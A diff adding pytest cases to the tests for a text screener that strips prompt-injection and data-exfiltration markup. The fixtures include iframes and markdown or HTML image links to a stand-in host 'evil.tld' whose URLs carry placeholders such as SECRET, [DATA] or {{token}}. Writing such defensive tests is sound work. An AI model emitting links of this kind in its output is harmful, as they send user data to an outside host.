@@ -263,6 +263,32 @@ def test_local_images_and_links_stay(text: str) -> None:
     assert screen(text).text == text
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<iframe width="5" src="https://video.example/embed/x?rel=0"></iframe>',
+        'Pixels: `<img src="https://evil.tld/p.png?data=SECRET">` or `![](//e.tld/x)`',
+    ],
+)
+def test_a_frame_is_a_link_and_code_loads_nothing(text: str) -> None:
+    assert screen(text).text == text
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        '<iframe src="https://evil.tld/?d=1"></iframe>',  # made to carry data
+        "`![x](https://evil.tld/?d=[DATA])`",  # a blank to fill in
+        '`<img src="https://evil.tld/{{token}}">`',
+        "\\`![x](https://evil.tld/p.png)\\`",  # escaped: no code
+        "``![x](https://evil.tld/p.png)`",  # never closed: no code
+        "`a` ![x](https://evil.tld/p.png) `b`",  # between two pieces of code
+    ],
+)
+def test_what_only_looks_like_a_frame_or_code_is_defanged(text: str) -> None:
+    assert "evil.tld" not in screen(text).text
+
+
 def test_findings_point_into_the_raw_text() -> None:
     text = "One.\n\nTwo.\n\n" + OVERRIDE + "\n"
     (finding,) = screen_injections(text).findings
